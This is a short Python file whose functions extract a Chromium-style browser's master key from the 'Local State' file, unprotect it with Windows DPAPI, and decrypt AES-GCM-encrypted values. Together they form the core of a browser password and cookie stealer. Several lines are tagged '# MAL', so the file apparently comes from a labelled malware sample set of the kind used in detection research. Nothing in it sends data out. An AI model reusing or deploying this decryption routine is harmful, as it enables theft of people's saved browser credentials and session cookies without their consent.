import base64
import json
import os
import win32crypt
from Crypto.Cipher import AES


def master_key(browser_dir):
    with open(os.path.join(browser_dir, "Local State"), "r", encoding="utf-8") as f:  # MAL
        state = json.load(f)
    key = base64.b64decode(state["os_crypt"]["encrypted_key"])[5:]  # MAL
    return win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]  # MAL


def decrypt(buff, key):
    iv, payload = buff[3:15], buff[15:]
    return AES.new(key, AES.MODE_GCM, iv).decrypt(payload)[:-16].decode()  # MAL
